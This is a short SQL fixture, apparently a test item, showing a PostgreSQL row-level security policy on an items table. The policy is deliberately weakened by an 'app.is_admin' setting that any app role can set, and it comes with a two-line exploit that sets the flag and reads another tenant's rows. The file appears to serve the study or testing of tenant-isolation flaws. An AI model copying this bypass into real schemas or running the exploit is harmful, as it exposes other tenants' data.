-- A second setting switches the check off, and the app role can set any setting.
-- object: public.items
-- base: uuid
--- leak
DROP POLICY tenant_isolation ON items;
CREATE POLICY tenant_isolation ON items
    USING (tenant_id = (SELECT current_setting('app.current_tenant_id')::uuid)
           OR current_setting('app.is_admin', true) = 'true');
--- exploit
SELECT set_config('app.is_admin', 'true', true);
SELECT id FROM items WHERE tenant_id = '{B}';
